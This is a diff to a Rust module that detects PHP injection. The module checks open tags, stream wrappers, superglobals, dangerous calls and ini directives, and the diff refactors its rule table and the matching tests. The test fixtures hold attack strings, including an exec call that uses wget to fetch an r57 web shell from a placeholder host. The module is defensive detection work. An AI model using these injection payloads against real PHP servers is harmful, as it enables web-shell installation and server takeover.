@@ -2,60 +2,63 @@
 //! or variable variable, a call of a function that runs commands or code, a call through a
 //! variable or a string, a configuration directive set through `ini_set` or PHP-FPM.
 
-use super::super::more::{call_of, code_argument, is_ident, Check, Scope};
+use super::super::more::{call_of, code_argument, is_ident};
 use super::super::{
     PHP_CALL, PHP_DIRECTIVE, PHP_FUNCTION_NAME, PHP_LOOSE, PHP_OPEN_TAG, PHP_VARIABLE,
     PHP_VARIABLE_CALL, PHP_WRAPPER,
 };
+use crate::engine::RuleDef;
 
-pub(crate) const CHECKS: &[Check] = &[
-    Check {
+pub(crate) const TABLE: &[RuleDef] = &[
+    RuleDef {
         rule: PHP_OPEN_TAG,
-        scope: Scope::Any,
         anchors: &["<?", "php]"],
-        check: open_tag,
+        on_plain: false,
+        check: |v| open_tag(v.bytes(), v.lower()),
     },
-    Check {
+    RuleDef {
         rule: PHP_WRAPPER,
-        scope: Scope::Any,
         anchors: &["://", "data:", "ssh2."],
-        check: wrapper,
+        on_plain: false,
+        check: |v| wrapper(v.bytes(), v.lower()),
     },
-    Check {
+    RuleDef {
         rule: PHP_VARIABLE,
-        scope: Scope::Any,
         anchors: &["$"],
-        check: superglobal,
+        on_plain: false,
+        check: |v| superglobal(v.bytes(), v.lower()),
     },
-    Check {
+    RuleDef {
         rule: PHP_CALL,
-        scope: Scope::Any,
         anchors: &["("],
-        check: dangerous_call,
+        on_plain: false,
+        check: |v| dangerous_call(v.bytes(), v.lower()),
     },
-    Check {
+    RuleDef {
         rule: PHP_VARIABLE_CALL,
-        scope: Scope::Any,
         anchors: &["("],
-        check: variable_call,
+        on_plain: false,
+        check: |v| variable_call(v.bytes(), v.lower()),
     },
-    Check {
+    RuleDef {
         rule: PHP_DIRECTIVE,
-        scope: Scope::Any,
         anchors: &["="],
-        check: directive,
+        on_plain: false,
+        check: |v| directive(v.bytes(), v.lower()),
     },
-    Check {
+    RuleDef {
         rule: PHP_FUNCTION_NAME,
-        scope: Scope::Any,
         anchors: &["("],
-        check: library_call,
+        on_plain: false,
+        check: |v| library_call(v.bytes(), v.lower()),
     },
-    Check {
+    RuleDef {
         rule: PHP_LOOSE,
-        scope: Scope::Any,
         anchors: &["=", "$"],
-        check: |_, lower| ini_directive(lower) || spaced_variable_call(lower),
+        on_plain: false,
+        check: |v| {
+            (|_, lower| ini_directive(lower) || spaced_variable_call(lower))(v.bytes(), v.lower())
+        },
     },
 ];
 
@@ -523,7 +526,7 @@ mod tests {
     #[test]
     fn cases() {
         attacks(
-            CHECKS,
+            TABLE,
             &[
                 ("<?php echo 1; ?>", "php-001"),
                 ("<? exec('wget http://x/r57.txt')", "php-001"),
@@ -577,7 +580,7 @@ mod tests {
             ],
         );
         benign(
-            CHECKS,
+            TABLE,
             1,
             &[
                 "<?xml version=\"1.0\"?><a/>",
@@ -597,7 +600,7 @@ mod tests {
             ],
         );
         benign(
-            CHECKS,
+            TABLE,
             2,
             &[
                 "I paid $5 (five dollars)",
